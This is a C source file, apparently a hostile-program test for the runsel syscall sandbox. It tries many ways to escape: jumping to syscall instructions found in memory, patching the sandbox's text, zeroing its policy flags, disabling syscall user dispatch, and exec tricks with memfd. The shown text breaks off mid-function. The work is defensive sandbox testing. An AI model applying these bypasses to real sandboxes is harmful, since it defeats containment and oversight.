/* hostile — a program that attacks the sandbox it runs in (issue #15's
 * hostile program test: tests/t_hostile.sh, docs/threat-model.md).
 *
 *   hostile ATTACK DIR PORT STATIC    one attack, one line on stdout
 *   hostile all DIR PORT STATIC       every attack, one after the other
 *   hostile list                      the attacks' names
 *
 * DIR is a directory the sandbox must keep it from writing to, PORT a
 * listener on 127.0.0.1 it must keep it from reaching, STATIC the static
 * build of this program (the exec attacks run it).  Each attack tries to
 * disable or get around the sandbox, then makes one attempt at the two
 * forbidden effects — creating DIR/ATTACK, and an AF_INET socket connected
 * to 127.0.0.1:PORT that sends "DIR/ATTACK\n" — and prints
 *
 *   ATTACK NAME: write=ok|denied socket=ok|denied; what it found; end=FATE
 *
 * (The attacks that try many syscall sites — gate, exec-gate, fork-gate —
 * make that attempt once per site, each in a child; ok: one got through.)
 * Every attack runs in a child of its own (a crash or a sandbox switched
 * off stays there), with alarm(5); its children report through a pipe
 * ('W' wrote, 'S' connected, "F text" found, "E text" errors).  Nothing
 * is written anywhere but DIR (and the program's own memory), and the only
 * processes it signals or traces are its parent when $HOSTILE_DECOY names
 * it (the test's decoy), and its tracer and processes named like runsel
 * when they are of its own session (the test makes one): what a
 * supervisor would be.
 *
 * The forbidden calls go through a `sysfn`: libc's functions (plain), a
 * syscall instruction of this program's own (own_syscall: its number comes
 * from a register, a form runsel's fast path never rewrites), ia32 calls
 * (int80), or a syscall instruction found in memory, entered with the
 * call's registers by a jump (via_site) or by rt_sigreturn (via_srop). */
#define _GNU_SOURCE
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/ucontext.h>
#include <sys/wait.h>

extern char **environ;

#define PR_SET_SYSCALL_USER_DISPATCH_ 59
#define PR_SYS_DISPATCH_OFF_ 0
#define FILTER_ALLOW 0              /* the SUD selector's "do not intercept" */

/* ---- the run ---- */

static const char *dir;             /* forbidden directory */
static int port;                    /* forbidden listener */
static const char *static_prog;     /* this program, static: exec'd by the exec attacks */
static const char *attack;          /* the current attack: file name and token */
static int report_fd = -1;          /* the attack's pipe */
static pid_t main_ppid;             /* the parent of the whole run (the decoy) */

typedef long (*sysfn)(long nr, long a, long b, long c, long d, long e, long f);

/* ---- reporting, through the pipe ---- */

static void say(const char *fmt, ...)
{
    char line[1024];
    va_list ap;

    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof(line) - 2)
        n = sizeof(line) - 2;
    line[n++] = '\n';
    if (report_fd >= 0 && write(report_fd, line, (size_t)n) < 0)
        return;
}

#define found(...) say("F " __VA_ARGS__)

static const char *err_name(long r)
{
    static char buf[32];

    switch (-r) {
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case EBUSY: return "EBUSY";
    case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EFAULT: return "EFAULT";
    case ECONNREFUSED: return "ECONNREFUSED";
    }
    snprintf(buf, sizeof(buf), "%ld", r);
    return buf;
}

/* ---- raw system calls ---- */

/* own_syscall: the program's own syscall instruction, outside any exempt
 * range.  The number is moved from a register, not `mov $nr, %eax`, so
 * runsel's fast path leaves the site alone and every call traps. */
long own_syscall(long nr, long a, long b, long c, long d, long e, long f);
__asm__(".text\n"
        ".globl own_syscall\n.hidden own_syscall\n.type own_syscall,@function\n"
        "own_syscall:\n"
        "  mov %rdi, %rax\n  mov %rsi, %rdi\n  mov %rdx, %rsi\n  mov %rcx, %rdx\n"
        "  mov %r8, %r10\n  mov %r9, %r8\n  mov 8(%rsp), %r9\n"
        "  syscall\n  ret\n"
        ".size own_syscall, .-own_syscall\n");

/* site_call: enter the syscall instruction at r->site with the call's
 * registers, on a stack whose top slots all hold site_landing: whatever
 * pops and ret follow the instruction end at site_landing, which puts the
 * stack and the callee-saved registers back and returns %rax.  A fault
 * after the instruction (hlt, ud2) is sent there by on_fault. */
struct site_regs {
    long nr, a, b, c, d, e, f;
    uintptr_t site;
};
long site_call(const struct site_regs *r);
extern char site_landing[];
#define LANDING_SLOTS 8192          /* 64 KiB: signal frames land below the primed top */
__attribute__((visibility("hidden"), aligned(16))) uintptr_t landing_stack[LANDING_SLOTS];
__attribute__((visibility("hidden"))) uintptr_t site_saved_rsp;
__asm__(".text\n"
        ".globl site_call\n.hidden site_call\n.type site_call,@function\n"
        "site_call:\n"
        "  push %rbx\n  push %rbp\n  push %r12\n  push %r13\n  push %r14\n  push %r15\n"
        "  mov %rsp, site_saved_rsp(%rip)\n"
        "  lea landing_stack+8*(8192-56)(%rip), %rsp\n"
        "  mov 56(%rdi), %r11\n"
        "  mov 0(%rdi), %rax\n  mov 16(%rdi), %rsi\n  mov 24(%rdi), %rdx\n"
        "  mov 32(%rdi), %r10\n  mov 40(%rdi), %r8\n  mov 48(%rdi), %r9\n"
        "  mov 8(%rdi), %rdi\n"
        "  jmp *%r11\n"
        ".globl site_landing\n.hidden site_landing\n"
        "site_landing:\n"
        "  mov site_saved_rsp(%rip), %rsp\n"
        "  pop %r15\n  pop %r14\n  pop %r13\n  pop %r12\n  pop %rbp\n  pop %rbx\n"
        "  ret\n"
        ".size site_call, .-site_call\n");

static void on_fault(int sig, siginfo_t *si, void *ucv)
{
    ucontext_t *uc = ucv;

    (void)sig, (void)si;
    uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)site_landing;
}

static void catch_faults(void)
{
    struct sigaction sa = {.sa_sigaction = on_fault, .sa_flags = SA_SIGINFO | SA_NODEFER};

    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGILL, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);
}

static uintptr_t cur_site;

static long via_site(long nr, long a, long b, long c, long d, long e, long f)
{
    struct site_regs r = {nr, a, b, c, d, e, f, cur_site};

    for (int i = LANDING_SLOTS - 64; i < LANDING_SLOTS; i++)
        landing_stack[i] = (uintptr_t)site_landing;
    return site_call(&r);
}

/* libc's functions for the two calls that matter (the plain attempt). */
static long libc_call(long nr, long a, long b, long c, long d, long e, long f)
{
    long r;

    (void)e, (void)f;
    if (nr == SYS_openat)
        r = openat((int)a, (const char *)b, (int)c, (mode_t)d);
    else if (nr == SYS_socket)
        r = socket((int)a, (int)b, (int)c);
    else
        r = syscall(nr, a, b, c, d);
    return r < 0 ? -errno : r;
}

/* ia32 calls (int $0x80) from the program's own text: openat is 295,
 * socket 359; a path must lie below 4 GiB. */
static long int80(long nr, long a, long b, long c, long d)
{
    long r;

    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d) : "memory");
    return (int)r;
}

static long ia32_call(long nr, long a, long b, long c, long d, long e, long f)
{
    static char *low;

    (void)e, (void)f;
    if (!low) {
        low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                   -1, 0);
        if (low == MAP_FAILED)
            return -ENOMEM;
    }
    if (nr == SYS_openat) {
        snprintf(low, 4096, "%s", (const char *)b);
        return int80(295, a, (long)(uintptr_t)low, c, d);
    }
    if (nr == SYS_socket)
        return int80(359, a, b, c, 0);
    return -ENOSYS;
}

/* ---- the two forbidden effects ---- */

static int try_write(sysfn sys)
{
    char path[4096];

    snprintf(path, sizeof(path), "%s/%s", dir, attack);
    long fd = sys(SYS_openat, AT_FDCWD, (long)path, O_WRONLY | O_CREAT | O_TRUNC, 0644, 0, 0);
    if (fd < 0) {
        say("E openat=%s", err_name(fd));
        return 0;
    }
    own_syscall(SYS_write, fd, (long)attack, (long)strlen(attack), 0, 0, 0);
    own_syscall(SYS_close, fd, 0, 0, 0, 0, 0);
    say("W");
    return 1;
}

/* socket() is the sandbox's gate for the network; connect and write on a
 * socket the program has are not checked, so they are made plainly. */
static int try_socket(sysfn sys)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    char token[4200];
    long s = sys(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0);

    if (s < 0) {
        say("E socket=%s", err_name(s));
        return 0;
    }
    long r = own_syscall(SYS_connect, s, (long)&sa, sizeof(sa), 0, 0, 0);
    if (r == 0) {
        int n = snprintf(token, sizeof(token), "%s/%s\n", dir, attack);
        own_syscall(SYS_write, s, (long)token, n, 0, 0, 0);
        say("S");
    } else {
        say("E connect=%s", err_name(r));
    }
    own_syscall(SYS_close, s, 0, 0, 0, 0, 0);
    return r == 0;
}

static int effects(sysfn sys)
{
    return try_write(sys) | try_socket(sys) << 1;
}

static void exit_with(int status)
{
    own_syscall(SYS_exit_group, status, 0, 0, 0, 0, 0);
    _exit(status);
}

/* A child for one try: alarm(3) (alarms do not pass fork), then fn. */
static pid_t child(int (*fn)(void *), void *arg)
{
    pid_t p = fork();

    if (p == 0) {
        alarm(3);
        exit_with(fn(arg));
    }
    return p;
}

static int wait_status(pid_t p)
{
    int st = 0;

    if (p < 0 || waitpid(p, &st, 0) != p)
        return -1;
    return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

/* ---- the address space ---- */

struct map {
    uintptr_t lo, hi, off;
    char perms[5];
    char path[512];
};
#define MAX_MAPS 1024

static int read_maps(struct map *m, int max)
{
    FILE *f = fopen("/proc/self/maps", "re");
    char line[1024];
    int n = 0;

    if (!f)
        return 0;
    while (n < max && fgets(line, sizeof(line), f)) {
        struct map *x = &m[n];
        int at = 0;
        x->path[0] = 0;
        if (sscanf(line, "%lx-%lx %4s %lx %*s %*s %n", &x->lo, &x->hi, x->perms, &x->off, &at) < 4)
            continue;
        snprintf(x->path, sizeof(x->path), "%s", line + at);
        x->path[strcspn(x->path, "\n")] = 0;
        n++;
    }
    fclose(f);
    return n;
}

/* runsel's images, by the names the loader maps them under: initmod
 * (runsel-init) and the wrappers (a wrappers directory, or runsel in the
 * path). */
static int is_runsel(const char *path)
{
    return strstr(path, "runsel") || strstr(path, "/wrappers/");
}

static int is_initmod(const char *path)
{
    const char *b = strrchr(path, '/');

    return b && !strcmp(b + 1, "runsel-init");
}

static const char *base_name(const char *path)
{
    const char *b = strrchr(path, '/');

    return !path[0] ? "[anon]" : b ? b + 1 : path;
}

/* Bytes of our own memory, read through /proc/self/mem (an unreadable
 * page is an error, not a fault). */
static unsigned char *read_mem(uintptr_t lo, size_t n)
{
    int fd = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);
    unsigned char *buf = malloc(n ? n : 1);
    size_t got = 0;

    if (fd < 0 || !buf) {
        if (fd >= 0)
            close(fd);
        free(buf);
        return NULL;
    }
    while (got < n) {
        ssize_t r = pread(fd, buf + got, n - got, (off_t)(lo + got));
        if (r <= 0)
            break;
        got += (size_t)r;
    }
    close(fd);
    if (got < n)
        memset(buf + got, 0, n - got);
    return buf;
}

/* A symbol's value from an ELF file's .symtab (runsel's images are not
 * stripped; a stripped one gives 0). */
static uintptr_t elf_symbol(const char *path, const char *name)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    struct stat st;
    uintptr_t val = 0;

    if (fd < 0)
        return 0;
    if (fstat(fd, &st) || st.st_size < (off_t)sizeof(Elf64_Ehdr)) {
        close(fd);
        return 0;
    }
    const unsigned char *f = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
    close(fd);
    if (f == MAP_FAILED)
        return 0;
    const Elf64_Ehdr *eh = (const void *)f;
    size_t size = (size_t)st.st_size;
    if (memcmp(eh->e_ident, ELFMAG, SELFMAG) || eh->e_shoff + (size_t)eh->e_shnum * sizeof(Elf64_Shdr) > size)
        goto out;
    const Elf64_Shdr *sh = (const void *)(f + eh->e_shoff);
    for (int i = 0; i < eh->e_shnum && !val; i++) {
        if (sh[i].sh_type != SHT_SYMTAB || sh[i].sh_link >= eh->e_shnum)
            continue;
        const Elf64_Shdr *strs = &sh[sh[i].sh_link];
        if (sh[i].sh_offset + sh[i].sh_size > size || strs->sh_offset + strs->sh_size > size)
            continue;
        const Elf64_Sym *sym = (const void *)(f + sh[i].sh_offset);
        for (size_t k = 0; k < sh[i].sh_size / sizeof(*sym); k++)
            if (sym[k].st_name < strs->sh_size &&
                !strcmp((const char *)f + strs->sh_offset + sym[k].st_name, name)) {
                val = sym[k].st_value;
                break;
            }
    }
out:
    munmap((void *)f, size);
    return val;
}

/* The address of NAME in the mapped runsel image whose file has it. */
static uintptr_t runsel_symbol(const struct map *m, int n, const char *name, const char **in)
{
    for (int i = 0; i < n; i++) {
        if (m[i].off || !is_runsel(m[i].path))
            continue;
        uintptr_t v = elf_symbol(m[i].path, name);
        if (v) {
            if (in)
                *in = base_name(m[i].path);
            return m[i].lo + v;
        }
    }
    return 0;
}

/* ---- syscall sites in executable memory ---- */

enum cont { CONT_NONE, CONT_RET, CONT_FAULT };

/* What the bytes after a syscall instruction do, as far as site_call can
 * follow them: pops (not of %rsp) then ret, or a faulting hlt/ud2. */
static enum cont continuation(const unsigned char *p, size_t avail)
{
    size_t i = 0;

    for (int pops = 0; i < avail && pops <= 8; pops++) {
        if (p[i] == 0xc3)
            return CONT_RET;
        if (p[i] == 0xf4 || (p[i] == 0x0f && i + 1 < avail && p[i + 1] == 0x0b))
            return CONT_FAULT;
        if (p[i] >= 0x58 && p[i] <= 0x5f && p[i] != 0x5c)
            i += 1;
        else if (p[i] == 0x41 && i + 1 < avail && p[i + 1] >= 0x58 && p[i + 1] <= 0x5f)
            i += 2;
        else
            return CONT_NONE;
    }
    return CONT_NONE;
}

struct site {
    uintptr_t at;
    enum cont cont;
    int runsel;                     /* in a runsel image or an anonymous executable page */
    char where[80];
};
#define MAX_SITES 256

struct sites {
    struct site s[MAX_SITES];
    int n;                          /* callable */
    int pairs, pairs_runsel;        /* every 0f 05 */
};

static void scan_mapping(const struct map *m, struct sites *out)
{
    size_t len = m->hi - m->lo;
    unsigned char *b = read_mem(m->lo, len);
    int runsel = is_runsel(m->path) || !m->path[0];

    if (!b)
        return;
    for (size_t i = 0; i + 1 < len; i++) {
        if (b[i] != 0x0f || b[i + 1] != 0x05)
            continue;
        out->pairs++;
        out->pairs_runsel += runsel;
        enum cont c = continuation(b + i + 2, len - i - 2);
        if (c == CONT_NONE || out->n >= MAX_SITES)
            continue;
        struct site *s = &out->s[out->n++];
        s->at = m->lo + i;
        s->cont = c;
        s->runsel = runsel;
        snprintf(s->where, sizeof(s->where), "%s+%#lx:%s", base_name(m->path),
                 (unsigned long)(m->off + i), c == CONT_RET ? "ret" : "fault");
    }
    free(b);
}

/* Every syscall instruction (0f 05 byte pair) of every readable executable
 * mapping, the vsyscall page aside (execute-only). */
static void find_sites(struct sites *out)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS);

    out->n = out->pairs = out->pairs_runsel = 0;
    for (int i = 0; i < n; i++)
        if (m[i].perms[0] == 'r' && m[i].perms[2] == 'x' && strcmp(m[i].path, "[vsyscall]"))
            scan_mapping(&m[i], out);
}

/* ---- attacks ---- */

/* (a) the baseline: libc's open and socket. */
static void atk_plain(void)
{
    found("libc open() and socket()");
    effects(libc_call);
}

/* (a) a syscall instruction of the program's own. */
static void atk_own_syscall(void)
{
    found("own syscall instruction");
    effects(own_syscall);
}

static void count_runsel_strings(const struct map *m, int n)
{
    char names[512] = "";
    int hits = 0;

    for (int i = 0; i < n; i++) {
        if (m[i].perms[0] != 'r' || !strncmp(m[i].path, "[v", 2) || m[i].hi - m[i].lo > (64u << 20))
            continue;
        unsigned char *b = read_mem(m[i].lo, m[i].hi - m[i].lo);
        if (b && memmem(b, m[i].hi - m[i].lo, "runsel", 6)) {
            hits++;
            if (!strstr(names, base_name(m[i].path)) && strlen(names) < 400)
                snprintf(names + strlen(names), sizeof(names) - strlen(names), "%s%s",
                         names[0] ? "," : "", base_name(m[i].path));
        }
        free(b);
    }
    found("\"runsel\" in %d mappings (%s)", hits, names);
}

/* Looking around: runsel's mappings, its variables, its gate by symbol. */
static void atk_scan(void)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS), imgs = 0, anon_x = 0, vars = 0;
    char names[512] = "";

    for (int i = 0; i < n; i++) {
        if (is_runsel(m[i].path) && m[i].off == 0) {
            imgs++;
            snprintf(names + strlen(names), sizeof(names) - strlen(names), "%s%s",
                     names[0] ? "," : "", base_name(m[i].path));
        }
        anon_x += !m[i].path[0] && m[i].perms[2] == 'x';
    }
    for (char **e = environ; *e; e++)
        vars += !strncmp(*e, "RUNSEL_", 7);
    found("runsel images %d (%s), anonymous executable mappings %d, RUNSEL_ variables %d", imgs,
          names, anon_x, vars);
    const char *in = NULL;
    uintptr_t lo = runsel_symbol(m, n, "rs_gate_start", &in), hi = runsel_symbol(m, n, "rs_gate_end", NULL);
    if (lo)
        found("exempt gate %s [%#lx, %#lx), %lu bytes", in, lo, hi, (unsigned long)(hi - lo));
    else
        found("no gate symbols");
    count_runsel_strings(m, n);
    effects(own_syscall);
}

static void *thread_effects(void *arg)
{
    (void)arg;
    return (void *)(long)effects(own_syscall);
}

/* A new thread of the program's. */
static void atk_thread(void)
{
    pthread_t t;

    if (pthread_create(&t, NULL, thread_effects, NULL)) {
        found("pthread_create failed");
        return;
    }
    pthread_join(t, NULL);
    found("effects from a second thread");
}

static int effects_own(void *arg)
{
    (void)arg;
    return effects(own_syscall);
}

/* A forked child. */
static void atk_fork(void)
{
    found("effects from a fork()ed child: exit %d", wait_status(child(effects_own, NULL)));
}

/* ia32 calls (int $0x80) from the program's own text. */
static void atk_int80(void)
{
    found("ia32 openat/socket through int $0x80");
    effects(ia32_call);
}

static int effects_at_site(void *arg)
{
    cur_site = ((struct site *)arg)->at;
    catch_faults();
    return effects(via_site);
}

struct tally {
    int sites, wrote, connected;
};

static void count_in(struct tally *t, int got)
{
    t->sites++;
    t->wrote += got & 1;
    t->connected += (got >> 1) & 1;
}

/* (b) every syscall instruction in executable memory, entered with the
 * call's registers: those inside runsel's exempt range run unchecked. */
static void atk_gate(void)
{
    static struct sites ss;
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS);
    uintptr_t lo = runsel_symbol(m, n, "rs_gate_start", NULL), hi = runsel_symbol(m, n, "rs_gate_end", NULL);
    struct tally all = {0}, gate = {0}, runsel = {0};
    char via[600] = "";

    find_sites(&ss);
    for (int i = 0; i < ss.n; i++) {
        int got = wait_status(child(effects_at_site, &ss.s[i]));
        if (got < 0)
            got = 0;
        count_in(&all, got);
        if (ss.s[i].runsel)
            count_in(&runsel, got);
        if (ss.s[i].at >= lo && ss.s[i].at < hi)
            count_in(&gate, got);
        if (got && strlen(via) < 480)
            snprintf(via + strlen(via), sizeof(via) - strlen(via), "%s%s", via[0] ? "," : "",
                     ss.s[i].where);
    }
    found("0f05 pairs %d (%d in runsel's mappings); entered %d: write from %d, socket from %d",
          ss.pairs, ss.pairs_runsel, all.sites, all.wrote, all.connected);
    found("runsel's: entered %d, write from %d, socket from %d; inside rs_gate_start..end: "
          "entered %d, write from %d, socket from %d", runsel.sites, runsel.wrote,
          runsel.connected, gate.sites, gate.wrote, gate.connected);
    found("effects via: %s", via[0] ? via : "none");
    if (!ss.n)
        effects(own_syscall);
}

/* ---- (c) runsel's state and text ---- */

/* A run of at least n int3 bytes in runsel's executable text (the fast
 * path's unused cells, inside the exempt range): its last n bytes. */
static uintptr_t find_int3_run(const struct map *m, int cnt, size_t want, const char **in)
{
    for (int i = 0; i < cnt; i++) {
        if (!is_runsel(m[i].path) || m[i].perms[2] != 'x')
            continue;
        size_t len = m[i].hi - m[i].lo, run = 0;
        unsigned char *b = read_mem(m[i].lo, len);
        uintptr_t best = 0;
        for (size_t k = 0; b && k < len; k++) {
            run = b[k] == 0xcc ? run + 1 : 0;
            if (run >= want + 64)
                best = (m[i].lo + k + 1 - want) & ~15UL;
        }
        free(b);
        if (best) {
            *in = base_name(m[i].path);
            return best;
        }
    }
    return 0;
}

/* mprotect a page of runsel's text writable, write `syscall; ret` there
 * and call it. */
static void atk_text_patch(void)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS);
    const char *in = "";
    uintptr_t at = find_int3_run(m, n, 64, &in);

    if (!at) {
        found("no int3 run in runsel's text");
        effects(own_syscall);
        return;
    }
    uintptr_t page = at & ~4095UL;
    long r = own_syscall(SYS_mprotect, page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, 0, 0, 0);
    if (r) {
        found("mprotect of %s's text: %s", in, err_name(r));
        effects(own_syscall);
        return;
    }
    memcpy((void *)at, "\x0f\x05\xc3", 3);
    own_syscall(SYS_mprotect, page, 8192, PROT_READ | PROT_EXEC, 0, 0, 0);
    found("mprotect of %s's text: 0; wrote syscall;ret at %#lx", in, (unsigned long)at);
    cur_site = at;
    catch_faults();
    effects(via_site);
}

/* The sandbox's policy flags, by the symbols of its image on disk. */
static void atk_policy_zero(void)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS), done = 0;
    static const char *const flags[] = {"deny_net", "restrict_write", "restrict_exec"};

    for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
        const char *in = "";
        int *p = (int *)runsel_symbol(m, n, flags[i], &in);
        if (p) {
            found("%s in %s was %d, now 0", flags[i], in, *p);
            *p = 0;
            done++;
        }
    }
    if (!done)
        found("no policy symbols");
    effects(own_syscall);
}

/* The writable memory of runsel's images: their rw file mappings and the
 * anonymous mapping right after an image (its .bss).  fn gets each. */
static int for_runsel_writable(int wrappers_only, void (*fn)(const struct map *, long *), long *acc)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS), parts = 0;

    for (int i = 0; i < n; i++) {
        int mine = is_runsel(m[i].path) && (!wrappers_only || !is_initmod(m[i].path));
        int bss = !m[i].path[0] && i > 0 && m[i - 1].hi == m[i].lo && is_runsel(m[i - 1].path) &&
                  (!wrappers_only || !is_initmod(m[i - 1].path));
        if ((mine || bss) && m[i].perms[1] == 'w') {
            fn(&m[i], acc);
            parts++;
        }
    }
    return parts;
}

static void flip_ones(const struct map *m, long *acc)
{
    for (uint32_t *p = (uint32_t *)m->lo; p < (uint32_t *)m->hi; p++)
        if (*p == 1) {
            *p = 0;
            (*acc)++;
        }
}

/* The policy found without symbols: every 32-bit 1 in a wrapper's
 * writable memory becomes 0 (flags are 1 when set). */
static void atk_policy_flip(void)
{
    long flipped = 0;
    int parts = for_runsel_writable(1, flip_ones, &flipped);

    found("flipped %ld words from 1 to 0 in %d writable wrapper mappings", flipped, parts);
    effects(own_syscall);
}

static void zero_all(const struct map *m, long *acc)
{
    memset((void *)m->lo, 0, m->hi - m->lo);
    *acc += (long)(m->hi - m->lo);
}

/* Write over every writable page of runsel's (initmod's and the wrappers'). */
static void atk_wipe(void)
{
    static struct map m[MAX_MAPS];
    long bytes = 0;
    int n = read_maps(m, MAX_MAPS), parts = 0;

    for (int i = 0; i < n; i++) {
        int bss = !m[i].path[0] && i > 0 && m[i - 1].hi == m[i].lo && is_runsel(m[i - 1].path);
        if ((is_runsel(m[i].path) || bss) && m[i].perms[1] == 'w')
            parts++, bytes += (long)(m[i].hi - m[i].lo);
    }
    found("zeroing %ld bytes in %d writable runsel mappings", bytes, parts);
    bytes = 0;
    for_runsel_writable(0, zero_all, &bytes);
    effects(own_syscall);
}

/* ---- (d) the redirect itself ---- */

static void atk_sud_off(void)
{
    long a = prctl(PR_SET_SYSCALL_USER_DISPATCH_, PR_SYS_DISPATCH_OFF_, 0, 0, 0) ? -errno : 0;
    long b = own_syscall(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH_, PR_SYS_DISPATCH_OFF_, 0, 0, 0, 0);

    found("prctl(PR_SET_SYSCALL_USER_DISPATCH, OFF): libc %s, own syscall %s", a ? err_name(a) : "0",
          b ? err_name(b) : "0");
    effects(own_syscall);
}

/* SUD's selector byte (runsel-init's `selector`) set to ALLOW. */
static void atk_selector(void)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS);
    const char *in = "";
    volatile char *sel = (volatile char *)runsel_symbol(m, n, "selector", &in);

    if (sel) {
        found("selector in %s was %d, now ALLOW", in, *sel);
        *sel = FILTER_ALLOW;
    } else {
        found("no selector symbol");
    }
    effects(own_syscall);
}

/* ---- (e) children and execs ---- */

static void child_argv(char *fdbuf, const char **argv)
{
    snprintf(fdbuf, 16, "%d", report_fd);
    argv[0] = "hostile";
    argv[1] = "effects";
    argv[2] = fdbuf;
    argv[3] = attack;
    argv[4] = dir;
    argv[5] = NULL;        /* the port: filled by the caller */
}

static char port_s[16];

static const char **exec_argv(void)
{
    static char fdbuf[16];
    static const char *argv[8];

    child_argv(fdbuf, argv);
    snprintf(port_s, sizeof(port_s), "%d", port);
    argv[5] = port_s;
    argv[6] = NULL;
    return argv;
}

static void atk_exec_plain(void)
{
    found("execve of the static program");
    execve(static_prog, (char **)exec_argv(), environ);
    found("execve failed: %s", strerror(errno));
    effects(own_syscall);
}

/* fexecve, then (if that fails) the same file by its /proc/self/fd name. */
static void exec_fd(int fd, const char *what, const char **argv)
{
    char proc[64];

    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
    found("%s: execveat(AT_EMPTY_PATH) failed: %s", what, err_name(-errno));
    snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
    execve(proc, (char **)argv, environ);
    found("%s: execve(%s) failed: %s", what, proc, err_name(-errno));
    effects(own_syscall);
}

static void atk_exec_fd(void)
{
    int fd = open(static_prog, O_RDONLY);

    found("execveat(fd of the static program, AT_EMPTY_PATH)");
    exec_fd(fd, "fd", exec_argv());
}

static int copy_to(int to, const char *from)
{
    char buf[65536];
    int fd = open(from, O_RDONLY | O_CLOEXEC);
    ssize_t r;

    if (fd < 0)
        return -1;
    while ((r = read(fd, buf, sizeof(buf))) > 0)
        if (write(to, buf, (size_t)r) != r)
            break;
    close(fd);
    return (int)r;
}

static void atk_exec_memfd(void)
{
    int fd = (int)syscall(SYS_memfd_create, "hostile", 0);

    found("execveat of a memfd holding a copy of the static program");
    if (fd < 0 || copy_to(fd, static_prog)) {
        found("memfd: %s", strerror(errno));
        effects(own_syscall);
        return;
    }
    exec_fd(fd, "memfd", exec_argv());
}

/* A #! script in a memfd whose interpreter is the static program: the
 * kernel runs STATIC script /dev/fd/N ARGS. */
static void atk_exec_script(void)
{
    int fd = (int)syscall(SYS_memfd_create, "hostile.sh", 0);
    char line[512];
    const char **argv = exec_argv();

    found("execveat of a #! memfd script run by the static program");
    int n = snprintf(line, sizeof(line), "#!%s script\n", static_prog);
    if (fd < 0 || write(fd, line, (size_t)n) != n) {
        found("memfd: %s", strerror(errno));
        effects(own_syscall);
        return;
    }
    argv[1] = argv[0];             /* the kernel puts "script" and the path first */
    exec_fd(fd, "script", argv + 1);
}

static int exec_at_site(void *arg)
{
    cur_site = ((struct site *)arg)->at;
    catch_faults();
    via_site(SYS_execve, (long)static_prog, (long)exec_argv(), (long)environ, 0, 0, 0);
    return 0;
}

/* execve from each of runsel's syscall sites: from the exempt range the
 * kernel execs the program itself, not the loader. */
static void atk_exec_gate(void)
{
    static struct sites ss;
    int tried = 0;

    find_sites(&ss);
    for (int i = 0; i < ss.n; i++)
        if (ss.s[i].runsel && ss.s[i].cont == CONT_RET) {
            tried++;
            wait_status(child(exec_at_site, &ss.s[i]));
        }
    found("execve from %d of runsel's sites", tried);
    if (!tried)
        atk_exec_plain();
}

/* fork from each of runsel's syscall sites: from the exempt range the
 * child is the kernel's, without runsel's handling of fork. */
static void atk_fork_gate(void)
{
    static struct sites ss;
    int tried = 0, got = 0;

    find_sites(&ss);
    for (int i = 0; i < ss.n; i++) {
        if (!ss.s[i].runsel || ss.s[i].cont != CONT_RET)
            continue;
        tried++;
        cur_site = ss.s[i].at;
        long p = via_site(SYS_fork, 0, 0, 0, 0, 0, 0);
        if (p == 0) {
            alarm(3);
            exit_with(effects(own_syscall));
        }
        int st = wait_status((pid_t)p);
        got |= st > 0 ? st : 0;
    }
    found("fork from %d of runsel's sites", tried);
    if (!tried)
        found("effects from a fork()ed child: exit %d", wait_status(child(effects_own, NULL)));
}

/* ---- (f) signals ---- */

static volatile int sigsys_seen;

static void on_sigsys(int sig)
{
    (void)sig;
    sigsys_seen++;
}

static void atk_sigsys_handler(void)
{
    struct sigaction sa = {.sa_handler = on_sigsys}, old;
    int r = sigaction(SIGSYS, &sa, NULL);

    raise(SIGSYS);
    sigaction(SIGSYS, NULL, &old);
    found("sigaction(SIGSYS)=%d, reads back ours: %s, raise ran it: %d", r,
          old.sa_handler == on_sigsys ? "yes" : "no", sigsys_seen);
    effects(own_syscall);
    found("our SIGSYS handler ran %d times in all", sigsys_seen);
}

/* SigBlk of /proc/self/status: what the kernel really blocks. */
static int kernel_blocks(int sig)
{
    FILE *f = fopen("/proc/self/status", "re");
    char line[256];
    unsigned long long m = 0;

    if (!f)
        return -1;
    while (fgets(line, sizeof(line), f))
        if (sscanf(line, "SigBlk: %llx", &m) == 1)
            break;
    fclose(f);
    return (m >> (sig - 1)) & 1;
}

static void atk_sigsys_block(void)
{
    sigset_t set, now;

    sigemptyset(&set);
    sigaddset(&set, SIGSYS);
    sigaddset(&set, SIGTRAP);
